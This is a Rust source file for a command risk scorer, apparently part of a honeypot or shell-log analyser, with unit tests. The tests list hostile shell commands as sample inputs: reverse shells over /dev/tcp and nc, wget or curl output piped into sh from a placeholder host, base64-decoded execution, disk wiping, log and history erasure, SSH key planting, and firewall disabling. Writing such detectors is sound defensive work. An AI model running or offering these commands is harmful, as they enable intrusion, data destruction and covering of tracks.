//! How dangerous a command would have been.

use crate::front;
use crate::risk_review::review;
use crate::template::READ_BYTES;

/// The score from which a command counts as high risk.
const HIGH_RISK: u8 = 70;

/// What is the most dangerous thing a command does.
///
/// Ordered from harmless to dangerous.
#[derive(Clone, Copy, Debug, Eq, Hash, Ord, PartialEq, PartialOrd)]
pub enum Risk {
    /// Nothing but space.
    Empty,
    /// Anything that no other kind names.
    Other,
    /// Looks around: `uname`, `cat /proc/cpuinfo`, `whoami`.
    Discovery,
    /// Writes, moves or removes files: `rm`, `cp`, `>x`.
    FileChange,
    /// Installs software by the system's own means: `apt-get install`.
    PackageInstall,
    /// Stops processes or the machine: `killall`, `reboot`.
    ProcessControl,
    /// Reads secrets: `/etc/shadow`, private keys.
    CredentialAccess,
    /// Makes files executable or runs them: `chmod`, `./x`, `sh x`, `perl -e`.
    Execution,
    /// Names a program that fetches or sends files: `wget`, `tftp`, `scp -t`.
    Transfer,
    /// Writes a file from escaped bytes: `echo -ne '\x7f\x45..' > x`.
    PayloadWritten,
    /// Names a miner or a scanner: `xmrig`, `masscan`.
    MinerOrScanner,
    /// Switches defences off: `iptables -F`, `setenforce 0`.
    DefenceDisabled,
    /// Destroys data or wipes traces: `rm -rf /`, `history -c`, `dd of=/dev/sda`.
    Wiping,
    /// Makes itself at home: `crontab`, `chpasswd`, `useradd`, `/etc/rc.local`, `systemctl enable`.
    Persistence,
    /// Plants an SSH key: writes to `authorized_keys`.
    KeyPlanted,
    /// Runs what was decoded a moment before: `base64 -d | sh`.
    HiddenExecution,
    /// Connects a shell to the network: `/dev/tcp`, `nc -e`.
    RemoteShell,
    /// Fetches a file and runs it, or makes it executable.
    DownloadAndExecute,
}

impl Risk {
    /// From 0 (nothing) to 100.
    pub fn score(self) -> u8 {
        match self {
            Self::Empty => 0,
            Self::Other => 10,
            Self::Discovery => 20,
            Self::FileChange => 30,
            Self::PackageInstall => 40,
            Self::ProcessControl | Self::CredentialAccess | Self::Execution => 50,
            Self::Transfer => 60,
            Self::PayloadWritten
            | Self::MinerOrScanner
            | Self::DefenceDisabled
            | Self::Wiping
            | Self::Persistence => 70,
            Self::KeyPlanted => 80,
            Self::HiddenExecution | Self::RemoteShell | Self::DownloadAndExecute => 90,
        }
    }

    /// The kind in words, for reports.
    pub fn reason(self) -> &'static str {
        match self {
            Self::Empty => "empty",
            Self::Other => "no known danger",
            Self::Discovery => "looks around",
            Self::FileChange => "changes files",
            Self::PackageInstall => "installs packages",
            Self::ProcessControl => "stops processes or the machine",
            Self::CredentialAccess => "reads secrets",
            Self::Execution => "makes files executable or runs them",
            Self::Transfer => "uses a transfer tool",
            Self::PayloadWritten => "writes a payload from escaped bytes",
            Self::MinerOrScanner => "names a miner or scanner",
            Self::DefenceDisabled => "switches defences off",
            Self::Wiping => "destroys data or wipes traces",
            Self::Persistence => "changes accounts or start-up",
            Self::KeyPlanted => "plants an SSH key",
            Self::HiddenExecution => "runs decoded text",
            Self::RemoteShell => "connects a shell to the network",
            Self::DownloadAndExecute => "downloads and executes",
        }
    }

    /// Whether the score is 70 or more.
    pub fn is_high(self) -> bool {
        self.score() >= HIGH_RISK
    }
}

/// The most dangerous thing the command does.
///
/// Programs are known by their last path component, behind `busybox`, `sudo`, `env`, `nohup` and
/// the like, whatever the quoting. What is inside `sh -c '..'`, `eval`, `$(..)`, a heredoc, or text
/// piped to a shell is read as commands too, to a depth of three. Only the first 64 KiB are read.
///
/// Keys are not looked for: who finds one in a command that does not name its file may raise the
/// answer to [`Risk::KeyPlanted`].
pub fn risk(command: &str) -> Risk {
    let text = front(command, READ_BYTES);
    if text.trim().is_empty() {
        return Risk::Empty;
    }
    review(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(expected: Risk, commands: &[&str]) {
        for command in commands {
            assert_eq!(risk(command), expected, "{command}");
        }
    }

    #[test]
    fn harmless() {
        check(Risk::Empty, &["", " \n"]);
        check(
            Risk::Other,
            &["echo hello", "sh", "cd /tmp", "exit", ";", "echo 'rm -rf /'", "grep x y"],
        );
        check(
            Risk::Discovery,
            &[
                "uname -a",
                "cat /proc/cpuinfo | grep name",
                "/bin/busybox cat /proc/mounts",
                "crontab -l",
                "w",
                "/ip cloud print",
                "echo $(whoami)",
                "id 2>/dev/null",
                "cat /etc/netdata/x.conf",
            ],
        );
        check(Risk::FileChange, &["rm -rf /tmp/x", ">x", "echo a > b", "mkdir -p .ssh"]);
        check(Risk::PackageInstall, &["apt-get install -y tor", "sudo yum install wget"]);
    }

    #[test]
    fn middling() {
        check(Risk::ProcessControl, &["killall -9 perl", "reboot", "systemctl stop nginx"]);
        check(Risk::CredentialAccess, &["cat /etc/shadow", "head ~/.ssh/id_rsa"]);
        check(
            Risk::Execution,
            &[
                "chmod 777 x",
                "./x",
                "/tmp/x a",
                "sh x.sh",
                "perl -e 'print 1'",
                "nohup ./x &",
                "chattr -ia .ssh",
                "echo 'echo hi' | sh; bash x",
            ],
        );
        check(
            Risk::Transfer,
            &["wget http://192.0.2.1/x", "scp -t /tmp", "/bin/busybox tftp", "curl x; ls"],
        );
    }

    #[test]
    fn high() {
        check(Risk::PayloadWritten, &["echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/elf"]);
        check(Risk::MinerOrScanner, &["tar xf XMRig-6.tar", "pkill -f xmrig", "zmap -p 22"]);
        check(Risk::DefenceDisabled, &["iptables -F", "setenforce 0", "service iptables stop"]);
        check(
            Risk::Wiping,
            &[
                "rm -rf /",
                "rm -rf /*",
                "rm -rf /var/log/*",
                "history -c",
                "unset HISTFILE",
                "HISTFILE=/x w",
                "export HISTFILE=/dev/null",
                "dd if=/dev/zero of=/dev/sda",
                "mkfs.ext4 /dev/sdb",
                "cat /dev/null > /var/log/wtmp",
                "rm ~/.bash_history",
            ],
        );
        check(
            Risk::Persistence,
            &[
                "passwd",
                "echo root:x|chpasswd",
                "(crontab -l; echo '* * * * * x') | crontab -",
                "useradd x",
                "echo x >> /etc/rc.local",
                "systemctl enable x",
                "cp x /etc/init.d/x",
                "sed -i s/a/b/ /etc/passwd",
            ],
        );
        check(Risk::KeyPlanted, &["echo x >> ~/.ssh/authorized_keys"]);
    }

    #[test]
    fn looks_dangerous_and_is_not() {
        for command in [
            "cp /etc/passwd /tmp/x",
            "sed -n 1p /etc/passwd",
            "export HISTTIMEFORMAT=%F",
            "systemctl restart sshd",
        ] {
            assert!(!risk(command).is_high(), "{command}");
        }
        check(Risk::Execution, &["chmod u=rwx f"]);
    }

    #[test]
    fn highest() {
        check(Risk::HiddenExecution, &["echo aWQK | base64 -d | sh", "base64 -d<<<aWQK|bash"]);
        check(
            Risk::RemoteShell,
            &[
                "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
                "nc -e /bin/sh 192.0.2.1 9",
                "exec 6<>/dev/tcp/192.0.2.1/9",
                "sh -c 'cat </dev/tcp/192.0.2.1/9'",
            ],
        );
        check(
            Risk::DownloadAndExecute,
            &[
                "wget -qO- http://192.0.2.1/x | sh",
                "curl http://192.0.2.1/x|sudo bash -s a",
                "bash <(curl -s http://192.0.2.1/x)",
                "sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
                "eval `wget -qO- http://192.0.2.1/x`",
                "cd /tmp; tftp -g -r x 192.0.2.1; chmod +x x",
                "/bin/busybox wget http://192.0.2.1/x; ./x",
                "\"wg\"et http://192.0.2.1/x;sh x",
                "cat > r <<E\nwget http://192.0.2.1/x\nE\nsh r",
                "curl http://192.0.2.1/x | python3",
                "echo 'wget http://192.0.2.1/x' > a.sh; sh a.sh",
                "nohup sh -c 'curl x.example/x -o x; ./x' &",
                "echo \"wget http://192.0.2.1/x; sh x\" | sh",
            ],
        );
    }

    #[test]
    fn scores_rise_with_the_order() {
        let scores = [
            Risk::Empty,
            Risk::Other,
            Risk::Discovery,
            Risk::FileChange,
            Risk::PackageInstall,
            Risk::ProcessControl,
            Risk::CredentialAccess,
            Risk::Execution,
            Risk::Transfer,
            Risk::PayloadWritten,
            Risk::MinerOrScanner,
            Risk::DefenceDisabled,
            Risk::Wiping,
            Risk::Persistence,
            Risk::KeyPlanted,
            Risk::HiddenExecution,
            Risk::RemoteShell,
            Risk::DownloadAndExecute,
        ];
        for pair in scores.windows(2) {
            assert!(pair[0] < pair[1] && pair[0].score() <= pair[1].score());
        }
        assert!(!Risk::Transfer.is_high() && Risk::PayloadWritten.is_high());
    }
}
